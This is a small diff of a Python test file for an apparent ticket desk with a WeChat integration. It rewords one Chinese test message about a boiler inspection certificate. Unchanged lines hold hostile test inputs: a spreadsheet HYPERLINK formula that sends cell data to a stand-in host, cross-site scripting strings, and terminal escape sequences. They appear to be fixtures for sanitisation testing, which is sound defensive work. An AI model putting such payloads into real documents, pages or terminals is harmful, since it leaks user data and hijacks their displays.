@@ -43,7 +43,7 @@ from tests.test_tickets_cli import NUMBER, desk
 from tests.ticket_workers import claim_one
 from tests.wechat_harness import AES_KEY, APP_ID, TOKEN, FakeWeChat, LoopThread, endpoint_url
 
-ESCALATING = "我们厂的锅炉年检证书丢了，补办要找哪个窗口"
+ESCALATING = "我们厂的锅炉年检证书到期了，要找哪个窗口"
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")锅炉年检证书补办'
 SCRIPT = "<script>alert(1)</script>锅炉年检证书丢了<img src=x onerror=alert(1)>[点我](javascript:alert(1))"
 ESCAPES = "\x1b[2J\x1b[31m锅炉年检证书丢了\x1b]0;owned\x07补办\r找谁"
